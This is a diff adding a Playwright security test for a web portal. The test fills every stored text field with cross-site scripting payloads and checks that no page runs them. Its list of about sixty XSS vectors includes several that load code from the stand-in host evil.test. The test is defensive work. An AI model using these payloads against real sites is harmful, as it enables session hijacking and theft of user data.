@@ -1,0 +1,179 @@
+import { randomBytes } from 'node:crypto'
+import type { Page } from '@playwright/test'
+import { fillTexts } from '../../../apps/server/src/testing/fill-texts.ts'
+import { withClient, withDatabase } from '../../../apps/server/src/testing/test-postgres.ts'
+import { deskPages, memberPages } from '../../support/every-page.ts'
+import { test as base, expect } from '../../support/fixtures.ts'
+import { type OwnServer, startOwnServer } from '../../support/own-server.ts'
+
+// Every text that people type and the portal stores, replaced by something that a careless page would run, on every page that
+// shows it: only in `npm run test:trust`.
+
+const database = `berth_e2e_texts_${randomBytes(6).toString('hex')}`
+const admin = () => process.env.BERTH_E2E_DATABASE_URL ?? ''
+
+const test = base.extend<object, { server: OwnServer }>({
+  server: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixture's needs from this pattern.
+    async ({}, use) => {
+      await withClient(admin(), async (client) => {
+        await client.query(`create database ${database}`)
+      })
+      const server = await startOwnServer({ DATABASE_URL: withDatabase(admin(), database) })
+      await use(server)
+      await server.stop()
+      await withClient(admin(), async (client) => {
+        await client.query(`drop database if exists ${database} with (force)`)
+      })
+    },
+    { scope: 'worker', timeout: 300_000 },
+  ],
+  baseURL: async ({ server }, use) => use(server.address),
+})
+
+test.describe.configure({ mode: 'default', timeout: 600_000 })
+
+const act = 'ran()'
+/** Ways to have a browser run something, each as a text of its own. */
+const payloads: readonly string[] = [
+  ...['script', 'SCRIPT', 'scr ipt'].map((tag) => `<${tag}>${act}</${tag}>`),
+  `<script src=//evil.test/x></script>`,
+  `<script>${act}//`,
+  ...[
+    'img src=x',
+    'image src=x',
+    'video src=x',
+    'audio src=x',
+    'body',
+    'object data=x',
+    'input autofocus type=image src=x',
+  ].map((tag) => `<${tag} onerror=${act} onload=${act} onfocus=${act}>`),
+  `<svg onload=${act}>`,
+  `<svg><script>${act}</script></svg>`,
+  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg onload=${act}>#x"></svg>`,
+  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${act}>`,
+  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${act}"></iframe>`,
+  `<a href="javascript:${act}">x</a>`,
+  `<a href="java&#10;script:${act}">x</a>`,
+  `<a href="data:text/html,<script>opener.${act}</script>">x</a>`,
+  `<form action="javascript:${act}"><button>x</button></form>`,
+  `<button formaction="javascript:${act}">x</button>`,
+  `<details open ontoggle=${act}>`,
+  `<marquee onstart=${act}>`,
+  `<style>@import "//evil.test/x.css"</style>`,
+  `<link rel=stylesheet href="//evil.test/x.css">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
+  `<base href="//evil.test/">`,
+  `<div style="background:url(//evil.test/x)">`,
+  `<template><script>${act}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
+  ...[
+    '"',
+    "'",
+    '`',
+    '">',
+    "'>",
+    '--\u003e',
+    '</title>',
+    '</textarea>',
+    '</style>',
+    '</script>',
+    ']]\u003e',
+  ].map((end) => `${end}<img src=x onerror=${act}>`),
+  `" onmouseover=${act} autofocus onfocus=${act} x="`,
+  `' onmouseover=${act} x='`,
+  `javascript:${act}`,
+  `JaVaScRiPt:${act}`,
+  `data:text/html,<script>${act}</script>`,
+  `{{constructor.constructor('${act}')()}}`,
+  `\${${act}}`,
+  `#{${act}}`,
+  `<%= ${act} %>`,
+  `<!--<img src="--><img src=x onerror=${act}>">`,
+  `&lt;script&gt;${act}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${act}&#62;`,
+  `%3Cscript%3E${act}%3C/script%3E`,
+  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
+  `\u202e<script>${act}</script>`,
+  `＜script＞${act}＜/script＞`,
+  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
+  `<xss id=x tabindex=1 onactivate=${act} onfocusin=${act}></xss>`,
+  `<object classid="clsid:x"><param name=src value="javascript:${act}"></object>`,
+  `<embed src="javascript:${act}">`,
+  `<isindex action="javascript:${act}" type=image>`,
+  `<keygen autofocus onfocus=${act}>`,
+]
+
+/** Everything that would show that a text was taken for more than text. */
+async function listen(page: Page): Promise<string[]> {
+  const heard: string[] = []
+  await page.exposeFunction('ran', () => heard.push(`ran on ${page.url()}`))
+  await page.exposeFunction('noteRefused', (what: string) => heard.push(`${what} on ${page.url()}`))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
+      // Exposed above.
+      (window as unknown as { noteRefused(what: string): void }).noteRefused(
+        `${violatedDirective} ${blockedURI}`,
+      ),
+    )
+  })
+  page.on('dialog', (dialog) => {
+    heard.push(`dialog on ${page.url()}`)
+    void dialog.dismiss()
+  })
+  page.on('request', (sent) => {
+    if (/evil\.test|\/x$/.test(sent.url())) heard.push(`request of ${sent.url()} on ${page.url()}`)
+  })
+  return heard
+}
+
+/** Elements that only a payload would make. */
+const made =
+  'img[src="x"], svg[onload], [onerror], [onload], [onfocus], [ontoggle], [onstart], iframe[srcdoc*="ran"], a[href^="javascript" i], form[action^="javascript" i], base[href*="evil"], xss, marquee, script[src*="evil"], link[href*="evil"]'
+
+async function visit(page: Page, addresses: readonly string[], heard: readonly string[]): Promise<number> {
+  let shown = 0
+  for (const address of addresses)
+    await test.step(address, async () => {
+      await page.goto(address)
+      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
+      await expect(page.locator('[aria-busy="true"]')).toHaveCount(0)
+      expect(await page.locator(made).count(), address).toBe(0)
+      if ((await page.getByText(act).count()) > 0) shown++
+      expect(heard).toEqual([])
+    })
+  return shown
+}
+
+test('no text is run, whichever page shows it', async ({
+  page,
+  request,
+  lang,
+  server,
+  expectConsoleError,
+}) => {
+  expectConsoleError(/404/)
+  expect(server.address).toContain('127.0.0.1')
+  expect(payloads.length).toBeGreaterThanOrEqual(60)
+  const [mine, theirs] = [await memberPages(request), await deskPages(request)]
+  const filled = await fillTexts(withDatabase(admin(), database), payloads)
+  expect(filled.length).toBeGreaterThan(80)
+  const heard = await listen(page)
+  const enter = async (username: string) => {
+    const data = { username, password: 'demo1234' }
+    const { token } = (await (await request.post('/api/system/login', { data })).json()).data
+    await page.goto(`/login?lang=${lang === 'zh' ? 'cn' : 'en'}`)
+    await page.evaluate((value) => localStorage.setItem('token', value), token)
+  }
+  await enter('shipper@demo.test')
+  const first = await visit(page, mine, heard)
+  await enter('operator@demo.test')
+  const second = await visit(page, theirs, heard)
+  process.stdout.write(
+    `scripts in texts: ${payloads.length} in ${filled.length} columns, shown on ${first + second} of ${mine.length + theirs.length} pages\n`,
+  )
+  // The texts were there to be run.
+  expect([first > 8, second > 8]).toEqual([true, true])
+})
